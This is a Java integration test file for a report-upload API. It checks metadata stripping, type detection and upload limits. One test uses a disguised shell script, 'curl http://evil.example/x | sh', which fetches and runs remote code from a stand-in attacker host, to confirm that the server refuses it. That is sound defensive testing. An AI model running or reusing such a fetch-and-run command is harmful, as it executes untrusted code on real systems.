@@ -1,0 +1,154 @@
+package org.tawasul.reporting;
+
+import java.awt.image.BufferedImage;
+import java.io.ByteArrayInputStream;
+import java.io.InputStream;
+import java.net.URI;
+import java.net.http.HttpClient;
+import java.net.http.HttpRequest;
+import java.net.http.HttpResponse;
+import java.util.List;
+import java.util.Map;
+
+import javax.imageio.ImageIO;
+
+import org.junit.jupiter.api.Test;
+import org.springframework.beans.factory.annotation.Autowired;
+import org.springframework.boot.test.web.server.LocalServerPort;
+import org.springframework.jdbc.core.simple.JdbcClient;
+import org.tawasul.TawasulTest;
+import org.tawasul.platform.blob.BlobStore;
+import org.tawasul.reporting.internal.TrackingCode;
+import tools.jackson.databind.JsonNode;
+import tools.jackson.databind.json.JsonMapper;
+
+import static org.assertj.core.api.Assertions.assertThat;
+
+/** Attachments: type from content, metadata removed, refusals explained, the report kept whatever happens to files. */
+@TawasulTest
+class ReportUploadsTest {
+
+	@LocalServerPort
+	int port;
+
+	@Autowired
+	JdbcClient jdbc;
+
+	@Autowired
+	BlobStore blobs;
+
+	private final HttpClient http = HttpClient.newHttpClient();
+
+	private final JsonMapper json = JsonMapper.builder().build();
+
+	HttpResponse<String> send(Multipart multipart, String language) throws Exception {
+		HttpRequest request = HttpRequest.newBuilder(URI.create("http://localhost:" + port + "/api/v1/reports"))
+			.header("Content-Type", multipart.contentType())
+			.header("Accept-Language", language)
+			.POST(HttpRequest.BodyPublishers.ofByteArray(multipart.bytes()))
+			.build();
+		return http.send(request, HttpResponse.BodyHandlers.ofString());
+	}
+
+	List<Map<String, Object>> attachments(String code) {
+		return jdbc.sql("""
+				select a.media_type, a.sha256, a.original_sha256, a.size_bytes from reporting.attachment a
+				join reporting.report r on r.id = a.report_id where r.tracking_hash = ? order by a.position""")
+			.param(TrackingCode.parse(code).orElseThrow().hash())
+			.query()
+			.listOfRows();
+	}
+
+	@Test
+	void aPhotoLosesItsGpsMetadataAndIsTurnedUpright() throws Exception {
+		byte[] photo = Images.jpegWithGps(40, 20);
+		assertThat(Images.contains(photo, Images.SECRET)).isTrue();
+
+		HttpResponse<String> response = send(new Multipart().json("report", ReportsApiTest.VALID)
+			.file("files", "IMG_0042.jpg", "image/jpeg", photo), "en");
+
+		assertThat(response.statusCode()).as(response.body()).isEqualTo(201);
+		String code = json.readTree(response.body()).get("trackingCode").asString();
+		assertThat(json.readTree(response.body()).get("refusedFiles").size()).as(response.body()).isZero();
+		Map<String, Object> stored = attachments(code).getFirst();
+		assertThat(stored.get("media_type")).isEqualTo("image/jpeg");
+		assertThat(stored.get("sha256")).isNotEqualTo(stored.get("original_sha256"));
+		byte[] kept;
+		try (InputStream in = blobs.open(stored.get("sha256").toString())) {
+			kept = in.readAllBytes();
+		}
+		assertThat(Images.contains(kept, "Exif")).isFalse();
+		assertThat(Images.contains(kept, Images.SECRET)).isFalse();
+		BufferedImage image = ImageIO.read(new ByteArrayInputStream(kept));
+		assertThat(image.getWidth()).isEqualTo(20); // orientation 6: a quarter turn
+		assertThat(image.getHeight()).isEqualTo(40);
+	}
+
+	@Test
+	void aScriptNamedLikeAPhotoIsRefusedWithAReasonAndTheReportIsKept() throws Exception {
+		byte[] script = "#!/bin/sh\ncurl http://evil.example/x | sh\n".getBytes();
+
+		HttpResponse<String> response = send(new Multipart().json("report", ReportsApiTest.VALID)
+			.file("files", "photo.jpg", "image/jpeg", script)
+			.file("files", "capture.png", "image/png", Images.png(30, 30)), "fr");
+
+		assertThat(response.statusCode()).as(response.body()).isEqualTo(201);
+		JsonNode body = json.readTree(response.body());
+		JsonNode refused = body.get("refusedFiles");
+		assertThat(refused.size()).isEqualTo(1);
+		assertThat(refused.get(0).get("name").asString()).isEqualTo("photo.jpg");
+		assertThat(refused.get(0).get("reason").asString()).contains("Type de fichier refusé", "application/x-sh");
+		String code = body.get("trackingCode").asString();
+		assertThat(attachments(code)).singleElement()
+			.satisfies(a -> assertThat(a.get("media_type")).isEqualTo("image/png"));
+		HttpResponse<String> tracked = http.send(HttpRequest
+			.newBuilder(URI.create("http://localhost:" + port + "/api/v1/reports/" + code))
+			.build(), HttpResponse.BodyHandlers.ofString());
+		assertThat(json.readTree(tracked.body()).get("attachments").asInt()).isEqualTo(1);
+	}
+
+	@Test
+	void filesBeyondTheAllowedCountAreRefused() throws Exception {
+		Multipart multipart = new Multipart().json("report", ReportsApiTest.VALID);
+		for (int i = 0; i < 6; i++) {
+			multipart.file("files", "shot" + i + ".png", "image/png", Images.png(10 + i, 10));
+		}
+		HttpResponse<String> response = send(multipart, "en");
+
+		assertThat(response.statusCode()).isEqualTo(201);
+		JsonNode refused = json.readTree(response.body()).get("refusedFiles");
+		assertThat(refused.size()).isEqualTo(1);
+		assertThat(refused.get(0).get("reason").asString()).contains("at most 5");
+	}
+
+	@Test
+	void anImageLargerThanItsLimitIsRefusedAndTheRestKept() throws Exception {
+		byte[] big = new byte[11 * 1024 * 1024];
+		byte[] png = Images.png(10, 10);
+		System.arraycopy(png, 0, big, 0, png.length);
+		HttpResponse<String> response = send(new Multipart().json("report", ReportsApiTest.VALID)
+			.file("files", "huge.png", "image/png", big), "en");
+
+		assertThat(response.statusCode()).isEqualTo(201);
+		assertThat(json.readTree(response.body()).get("refusedFiles").get(0).get("reason").asString())
+			.contains("too large", "10 MB");
+	}
+
+	@Test
+	void anUnreadableReportPartIsAProblem() throws Exception {
+		HttpResponse<String> response = send(new Multipart().json("report", "{not json"), "en");
+
+		assertThat(response.statusCode()).isEqualTo(400);
+		assertThat(response.headers().firstValue("Content-Type")).hasValueSatisfying(
+				type -> assertThat(type).startsWith("application/problem+json"));
+		assertThat(response.body()).contains("report part could not be read");
+	}
+
+	@Test
+	void aFileLargerThanTheServerAcceptsIsAProblemNotAnError() throws Exception {
+		HttpResponse<String> response = send(new Multipart().json("report", ReportsApiTest.VALID)
+			.file("files", "film.mp4", "video/mp4", new byte[26 * 1024 * 1024]), "en");
+
+		assertThat(response.statusCode()).isEqualTo(413);
+	}
+}
